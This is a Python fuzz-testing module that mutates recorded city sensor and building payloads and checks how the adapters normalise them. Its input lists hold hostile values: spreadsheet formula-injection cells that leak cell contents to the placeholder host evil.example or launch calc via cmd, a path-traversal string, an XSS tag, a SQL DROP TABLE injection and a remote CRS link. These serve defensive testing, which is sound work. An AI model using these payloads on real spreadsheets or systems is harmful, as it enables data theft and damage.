"""Seeded generators of bad input, grown from real recorded payloads, and the checks every outcome must pass.

Why from recorded payloads: a random blob is refused at the first byte and never reaches a normaliser;
a real payload with one field broken reaches the code that has to cope with it. Why ``random.Random``
and not hypothesis for the mass cases: ten thousand cases per parser must fit a CI budget of seconds,
and a seeded ``Random`` makes the same cases on every run. Partner cities can fuzz their own adapters
with the same :class:`Mutator` and :func:`outcome_problems`.
"""

from __future__ import annotations

import base64
import codecs
import copy
import csv
import io
import json
import math
import random
import re
from collections import deque
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, TypeVar

from adapters.core.normalize import NormalizeResult

__all__ = [
    "FORMULAS",
    "NASTY_NUMBERS",
    "NASTY_TEXTS",
    "NASTY_TIMES",
    "Mutator",
    "RawToken",
    "duplicate_key",
    "encode_json",
    "outcome_problems",
    "sane_window",
]

# Cells a spreadsheet runs as formulas (OWASP CSV injection): they must stay inert data everywhere.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
)

NASTY_TEXTS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202egnirts-ltr",  # right-to-left override
    "\u200b",  # zero-width space
    "urn:ngsi-ld:Building:other-tenant:x",
    "a:b:c",
    "../../etc/passwd",
    "a/b",
    "a b",
    " leading and trailing ",
    "Straße Köln-Mülheim",
    "東京都",
    "😀🏳️‍🌈",
    "e\u0301",  # combining accent
    "\ufeffBOM",
    "\ud800",  # lone surrogate: not encodable as UTF-8
    "<script>alert(1)</script>",
    "'; DROP TABLE entities; --",
    '"quoted" and \\backslash\\',
    "line\nbreak\r\n",
    "%00%0a",
    "null",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "12,5",
    "true",
    "x" * 300,
    "ü" * 5000,
    *FORMULAS,
)

NASTY_NUMBERS: tuple[Any, ...] = (
    float("nan"),
    float("inf"),
    float("-inf"),
    -0.0,
    0,
    -1,
    1e308,
    -1e308,
    5e-324,
    2**53 + 1,
    2**63,
    -(2**63) - 1,
    10**30,
    0.1 + 0.2,
    True,
    False,
)

# Timestamps far in the past and future, impossible ones, odd offsets and zone-less ones, plus epochs.
NASTY_TIMES: tuple[Any, ...] = (
    "0001-01-01T00:00:00Z",
    "1970-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "2100-01-01T00:00:00Z",
    "2024-02-30T10:00:00Z",
    "2024-11-05T24:00:00Z",
    "2016-12-31T23:59:60Z",
    "2024-11-05T10:00:00+05:45",
    "2024-11-05T10:00:00-12:00",
    "2024-11-05T10:00:00+24:00",
    "2024-11-05T10:00:00+0100",
    "2024-11-05T10:00:00",
    "2024-11-05 10:00:00",
    "2024-11-05",
    "05.11.2024 10:00",
    "31.02.2024 25:61",
    "2024-11-05T10:00:00.123456789123Z",
    "+275760-09-13T00:00:00Z",
    "-000001-01-01T00:00:00Z",
    "T",
    "Z",
    "yesterday",
    "",
    0,
    -1,
    1730800000,
    1730800000000,
    10**20,
    1e308,
    float("nan"),
)

T = TypeVar("T")

_RAW_NUMBERS = ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "-0", "1E400", "1" * 5000, "0." + "0" * 400 + "1")
_TIMELIKE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{2}\.\d{2}\.\d{4}")
_MARKER = "\x00fuzz{}\x00"
_MARKER_TEXT = re.compile(r'"\\u0000fuzz(\d+)\\u0000"')
_DUPLICATE = "\x00dup\x00"
_DUPLICATE_TEXT = '"\\u0000dup\\u0000'


@dataclass(frozen=True)
class RawToken:
    """Text written into the JSON verbatim: tokens ``json.dumps`` will not write (a nesting bomb,
    a 5000-digit integer, ``1e999``) but a broken or hostile source may send."""

    text: str


def encode_json(document: Any, *, ensure_ascii: bool = True, indent: int | None = None) -> bytes:
    """JSON bytes of ``document`` with every :class:`RawToken` spliced in and every duplicate-key marker
    (see :func:`duplicate_key`) turned into the plain key."""
    raw: list[str] = []

    def marker(node: Any) -> str:
        if not isinstance(node, RawToken):
            raise TypeError(f"{type(node).__name__} is not JSON")
        raw.append(node.text)
        return _MARKER.format(len(raw) - 1)

    text = json.dumps(document, allow_nan=True, ensure_ascii=ensure_ascii, indent=indent, default=marker)
    text = _MARKER_TEXT.sub(lambda match: raw[int(match.group(1))], text).replace(_DUPLICATE_TEXT, '"')
    return text.encode("utf-8", "surrogatepass")  # a lone surrogate becomes invalid UTF-8, as a broken source sends


def duplicate_key(key: str) -> str:
    """A dict key that :func:`encode_json` writes as ``key``: ``{"id": 1, "id": "x"}`` in the output."""
    return _DUPLICATE + key


def _copy(document: Any) -> Any:
    """A deep copy; through the C JSON codec when the document is plain JSON, five times faster."""
    try:
        return json.loads(json.dumps(document, allow_nan=True))
    except (TypeError, ValueError, RecursionError):  # RawToken inside, or a 5000-digit integer
        return copy.deepcopy(document)


def _paths(document: Any, limit: int = 2000) -> list[tuple[Any, Any]]:
    """(container, key) of every node below the root, breadth first, bounded for huge documents."""
    found: list[tuple[Any, Any]] = []
    queue = deque([document])
    while queue and len(found) < limit:
        node = queue.popleft()
        children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
        for key, child in children:
            found.append((node, key))
            if isinstance(child, dict | list):
                queue.append(child)
    return found


class Mutator:
    """Bad variants of good input; the same seed gives the same variants, so CI failures replay."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def choice(self, options: Sequence[T]) -> T:
        return options[self.rng.randrange(len(options))]

    # ------------------------------------------------------------------------------ values

    def nasty_like(self, value: Any) -> Any:
        """A hostile value of the kind a parser expects here, or of another kind (a type swap)."""
        roll = self.rng.random()
        if isinstance(value, str) and _TIMELIKE.search(value) and roll < 0.7:
            return self.choice(NASTY_TIMES)
        if isinstance(value, int | float) and not isinstance(value, bool) and roll < 0.6:
            return self.choice(
                [
                    *NASTY_NUMBERS,
                    str(value),
                    str(value).replace(".", ","),
                    f" {value} ",
                    RawToken(self.choice(_RAW_NUMBERS)),
                ]
            )
        if isinstance(value, str) and roll < 0.6:
            return self.choice(NASTY_TEXTS)
        return self.choice(
            [
                None,
                True,
                0,
                -1.5,
                "",
                [],
                {},
                [value],
                {"value": value},
                self.choice(NASTY_TEXTS),
                self.choice(NASTY_NUMBERS),
            ]
        )

    def deep(self, depth: int, value: Any = 1) -> RawToken:
        """Nested arrays or objects: a nesting bomb when deep, a legal but odd value when shallow."""
        inner = encode_json(value).decode("utf-8", "surrogatepass")
        if self.rng.random() < 0.5:
            return RawToken("[" * depth + inner + "]" * depth)
        return RawToken('{"a":' * depth + inner + "}" * depth)

    # ------------------------------------------------------------------------------ JSON

    def json_document(self, document: Any, *, edits: int | None = None) -> Any:
        """A copy of ``document`` with 1-4 structure-aware edits at random places."""
        mutated = _copy(document)
        for _ in range(edits or self.rng.randint(1, 4)):
            paths = _paths(mutated)
            if not paths:
                return self.nasty_like(mutated)
            parent, key = self.choice(paths)
            self._edit(parent, key)
        return mutated

    def _edit(self, parent: Any, key: Any) -> None:
        value = parent[key]
        operation = self.rng.random()
        if operation < 0.12:
            del parent[key]
        elif operation < 0.18 and isinstance(parent, dict):
            parent[duplicate_key(key)] = self.nasty_like(value)
        elif operation < 0.24 and isinstance(parent, dict):
            parent[self.choice([key.upper(), f" {key}", key + "\u200b", self.choice(NASTY_TEXTS), "__proto__"])] = (
                parent.pop(key)
            )
        elif operation < 0.27:
            parent[key] = self.deep(
                self.choice([2, 50, 500, 5000, 100_000]), value if not isinstance(value, RawToken) else 1
            )
        elif operation < 0.30:
            parent[key] = self.oversized(value)
        else:
            parent[key] = self.nasty_like(value)

    def oversized(self, value: Any) -> Any:
        """Long strings and long arrays: bounded (a few MB at most), far beyond any real record."""
        if isinstance(value, list) and value:
            return value * self.choice([20, 20, 20, 500])
        return self.choice(["x" * 100_000, "\u202e" * 10_000, [value] * 200, {f"k{i}": value for i in range(100)}])

    def json_bytes(self, document: Any) -> bytes:
        """A mutated document, encoded; sometimes with non-ASCII written raw or pretty-printed."""
        return encode_json(
            self.json_document(document),
            ensure_ascii=self.rng.random() < 0.5,
            indent=1 if self.rng.random() < 0.1 else None,
        )

    # ------------------------------------------------------------------------------ bytes

    def byte_level(self, payload: bytes) -> bytes:
        """Damage on the wire: truncation, flipped bytes, invalid UTF-8, BOMs, other encodings, junk."""
        rng = self.rng
        operation = rng.randrange(11)
        if operation == 0 or not payload:
            return payload[: rng.randrange(len(payload) + 1)]
        if operation == 1:
            data = bytearray(payload)
            for _ in range(rng.randint(1, 8)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            return bytes(data)
        if operation == 2:
            at = rng.randrange(len(payload) + 1)
            junk = self.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x00", b"\x80\x80"])
            return payload[:at] + junk + payload[at:]
        if operation == 3:
            return self.choice([codecs.BOM_UTF8, codecs.BOM_UTF8 * 2, codecs.BOM_UTF16_LE]) + payload
        if operation == 4:
            text = payload.decode("utf-8", "replace")
            return text.encode(self.choice(["utf-16", "utf-32", "latin-1", "cp1252"]), "replace")
        if operation == 5:
            return self.choice([b"", b" ", b"\n\n", b"null", b"[]", b"{}", b"0", b'""', b"\x00" * 64, b"[" * 100_000])
        if operation == 6:
            return payload + payload[: rng.randrange(len(payload) + 1)]
        if operation == 7:
            return payload.replace(b"\n", b"\r\n") if rng.random() < 0.5 else payload.replace(b"\n", b"\r")
        if operation == 8:
            return rng.randbytes(rng.randint(1, 512))
        if operation == 9:
            at = rng.randrange(len(payload) + 1)
            return payload[:at] + payload[at:][: rng.randrange(64)] + payload[:at][-rng.randrange(1, 64) :]
        return payload + b"\n" + rng.randbytes(rng.randint(1, 64))

    # ------------------------------------------------------------------------------ CSV

    def csv_bytes(self, text: str, delimiter: str) -> bytes:
        """Spreadsheet exports gone wrong: columns missing, extra or shifted, quoting and delimiters,
        formulas in cells, hostile values, other encodings."""
        rows = [list(row) for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)]
        for _ in range(self.rng.randint(1, 3)):
            rows = self._csv_edit(rows)
        out_delimiter = delimiter if self.rng.random() < 0.85 else self.choice([",", ";", "\t", "|"])
        buffer = io.StringIO()
        terminator = self.choice(["\n", "\r\n"])
        if self.rng.random() < 0.25:
            writer = csv.writer(buffer, delimiter=out_delimiter, quoting=csv.QUOTE_ALL, lineterminator=terminator)
        else:
            writer = csv.writer(buffer, delimiter=out_delimiter, lineterminator=terminator)
        writer.writerows(rows)
        result = buffer.getvalue()
        if self.rng.random() < 0.05:
            at = self.rng.randrange(len(result) + 1)
            result = result[:at] + self.choice(['"', '""', '"\n', "\x00", delimiter * 3]) + result[at:]
        encoding = self.choice(["utf-8", "utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"])
        return result.encode(encoding, "surrogatepass" if encoding == "utf-8" else "replace")

    def _csv_edit(self, rows: list[list[str]]) -> list[list[str]]:
        """One edit of the table; mostly a cell's value, sometimes its shape (columns, rows, header)."""
        rng = self.rng
        if not rows:
            return [["x"]]
        body = range(1, len(rows)) if len(rows) > 1 else range(len(rows))
        row = rows[self.choice(body)]
        operation = rng.randrange(12)
        if operation <= 3 and row:  # the most common: a hostile value in one cell
            at = rng.randrange(len(row))
            row[at] = str(self.choice([*FORMULAS, *FORMULAS])) if operation == 0 else str(self.nasty_like(row[at]))
        elif operation == 4:
            column = rng.randrange(max(len(rows[0]), 1))
            rows = [[cell for index, cell in enumerate(r) if index != column] for r in rows]
        elif operation == 5 and row:
            del row[rng.randrange(len(row))]
        elif operation == 6:
            row.insert(rng.randrange(len(row) + 1), self.choice(["", "extra", *FORMULAS]))
        elif operation == 7 and rows[0]:
            rows[0][rng.randrange(len(rows[0]))] = self.choice(["", rows[0][0], rows[0][-1].upper(), "=1+1", "x y"])
        elif operation == 8:
            rows = rows[:1] if rng.random() < 0.5 else rows[1:]
        elif operation == 9:
            rows.insert(rng.randrange(1, len(rows) + 1), list(row))
        elif operation == 10:
            rows.insert(rng.randrange(1, len(rows) + 1), [])
        elif row:
            at = rng.randrange(len(row))
            row[at] = self.choice([row[at] + "\n" + row[at], '"' + row[at], row[at] * 200, " " + row[at] + " "])
        return rows

    # ------------------------------------------------------------------------------ GeoJSON

    def geometry(self, geometry: Any) -> Any:
        """Geometries a GIS export should not contain but does: invalid, empty, huge, out of range."""
        ring = [[0.0, 0.0], [1.0, 1.0], [1.0, 0.0], [0.0, 1.0], [0.0, 0.0]]  # a bow tie: self-intersecting
        coordinates = geometry.get("coordinates") if isinstance(geometry, dict) else None
        shell = (
            coordinates[0] if isinstance(coordinates, list) and coordinates and isinstance(coordinates[0], list) else []
        )
        chosen = self.choice(
            [
                None,
                {},
                {"type": "Polygon"},
                {"type": "Polygon", "coordinates": []},
                {"type": "Polygon", "coordinates": [[]]},
                {"type": "Polygon", "coordinates": [ring]},
                {"type": "Polygon", "coordinates": [[[393546.79, 5707820.44], [393546.79, 5707870.44]]]},
                {"type": "Polygon", "coordinates": [shell[:-1]]},  # ring not closed
                {
                    "type": "Polygon",
                    "coordinates": [[[p[1], p[0]] for p in shell if isinstance(p, list) and len(p) >= 2]],
                },
                {"type": "Polygon", "coordinates": [[[RawToken("NaN"), 0.0], [1.0, RawToken("1e999")], [0.0, 0.0]]]},
                {"type": "Polygon", "coordinates": [[[1e308, 1e308], [-1e308, 1e308], [0.0, -1e308], [1e308, 1e308]]]},
                self._circle,  # a valid footprint of thousands of vertices
                self._scribble,  # a self-intersecting mess
                {
                    "type": "Polygon",
                    "coordinates": [[["7.5", "51.5"], ["7.6", "51.5"], ["7.6", "51.6"], ["7.5", "51.5"]]],
                },
                {
                    "type": "Polygon",
                    "coordinates": [[[7.5, 51.5, 1.0, 2.0, 3.0], [7.6, 51.5], [7.6, 51.6], [7.5, 51.5]]],
                },
                {
                    "type": "Point",
                    "coordinates": self.choice([[], [7.5], [190.0, 95.0], [393546.79, 5707820.44], [None, None]]),
                },
                {"type": "MultiPolygon", "coordinates": [[ring], []]},
                {"type": "GeometryCollection", "geometries": [geometry, {"type": "Point", "coordinates": [0, 0]}]},
                {"type": "Circle", "coordinates": [7.5, 51.5], "radius": 10},
                {"type": "LineString", "coordinates": shell},
                {"type": "Polygon", "coordinates": [shell, ring]},  # a hole outside its shell
                {"type": "Polygon", "coordinates": [[shell[0]] * 5] if shell else []},  # zero area
            ]
        )
        return chosen() if callable(chosen) else chosen

    def _circle(self) -> dict[str, Any]:
        """A valid round footprint in EPSG:25832 (Dortmund) with up to 2000 vertices: costly, not wrong."""
        vertices = self.choice([200, 2000])
        ring = [
            [
                393571.0 + 30 * math.cos(2 * math.pi * i / vertices),
                5707845.0 + 30 * math.sin(2 * math.pi * i / vertices),
            ]
            for i in range(vertices)
        ]
        return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}

    def _scribble(self) -> dict[str, Any]:
        """Random vertices over 10,000 km: self-intersecting, and in no reference system we know."""
        ring = [[self.rng.uniform(-1e7, 1e7), self.rng.uniform(-1e7, 1e7)] for _ in range(self.rng.randint(3, 60))]
        return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}

    def crs(self) -> Any:
        """A GeoJSON ``crs`` member that is missing, malformed, unknown, remote or wrong for the coordinates."""
        return self.choice(
            [
                None,
                "EPSG:25832",
                {},
                {"type": "name"},
                {
                    "type": "name",
                    "properties": {"name": self.choice(["EPSG:999999", "urn:ogc:def:crs:EPSG::4326", "", "x" * 1000])},
                },
                {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}},
                {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::31467"}},
                {"type": "link", "properties": {"href": "http://evil.example/crs"}},
            ]
        )

    # ------------------------------------------------------------------------------ LoRaWAN

    def base64_garbage(self, good: bytes) -> Any:
        """What a payload field may hold instead of standard base64 of the frame."""
        encoded = base64.b64encode(good).decode()
        return self.choice(
            [
                "",
                "!!!!",
                encoded.rstrip("="),
                encoded + "====",
                encoded[: max(len(encoded) - 1, 0)],
                " " + encoded,
                encoded[:2] + "\n" + encoded[2:],
                base64.urlsafe_b64encode(b"\xfb\xff" + good).decode(),
                good.hex(),
                "A" * 100_001,
                "ü" + encoded,
                12345,
                None,
                [encoded],
                {"bytes": encoded},
            ]
        )


# ---------------------------------------------------------------------------------- checks

_ENTITY_ID = re.compile(r"urn:ngsi-ld:(?P<type>[A-Za-z][A-Za-z0-9]*):(?P<tenant>[a-z0-9_-]{1,50}):[A-Za-z0-9._~-]+")
_UTC = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?Z")
# Members holding instants: observedAt on any attribute, and the SDM date attributes.
_DATE_ATTRIBUTE = re.compile(r"^date[A-Z]|^(validFrom|validTo|observationDateTime)$")


def _times(entity: Mapping[str, Any]) -> list[tuple[str, Any]]:
    found: list[tuple[str, Any]] = []
    for name, attribute in entity.items():
        if not isinstance(attribute, dict):
            continue
        if "observedAt" in attribute:
            found.append((f"{name}.observedAt", attribute["observedAt"]))
        if _DATE_ATTRIBUTE.search(name) and attribute.get("type") == "Property":
            found.append((name, attribute.get("value")))
    return found


def outcome_problems(
    result: NormalizeResult,
    *,
    origin: str,
    earliest: datetime,
    latest: datetime,
) -> list[str]:
    """Everything wrong with one normalised payload; empty when the adapter coped.

    A rejection must say why and which record; an entity must carry a sanitised URN and RFC 3339 UTC
    times between ``earliest`` and ``latest`` (``normalize_payload`` already refused every entity the
    profile refuses). ``internal error`` (a normaliser raised something unexpected) and ``decoder
    failure`` (a decoder did) are bugs.
    """
    problems: list[str] = []
    for rejection in result.rejections:
        reason = rejection.reason
        if not reason.strip():
            problems.append(f"{rejection.where}: rejected without a reason")
        if "internal error" in reason or "decoder failure" in reason:
            problems.append(f"{rejection.where}: {reason}")
        if not rejection.where.startswith(f"{origin}: record "):
            problems.append(f"{rejection.where!r}: does not name the record")
    for entity in result.entities:
        identifier = entity.get("id")
        match = _ENTITY_ID.fullmatch(identifier) if isinstance(identifier, str) else None
        if match is None or match.group("type") != entity.get("type"):
            problems.append(f"{identifier!r}: not urn:ngsi-ld:<Type>:<tenant>:<sanitised local id>")
        for where, value in _times(entity):
            if not (isinstance(value, str) and _UTC.fullmatch(value)):
                problems.append(f"{identifier} {where}: {value!r} is not RFC 3339 UTC")
                continue
            moment = datetime.fromisoformat(value)
            if not earliest <= moment <= latest:
                problems.append(f"{identifier} {where}: {value} is outside {earliest:%Y-%m-%d}..{latest:%Y-%m-%d}")
    return problems


def sane_window(now: datetime | None = None) -> tuple[datetime, datetime]:
    """Times an entity may carry: not before 2000, not more than two days ahead (alerts' validTo)."""
    moment = now or datetime.now(UTC)
    return datetime(2000, 1, 1, tzinfo=UTC), moment + timedelta(days=2)
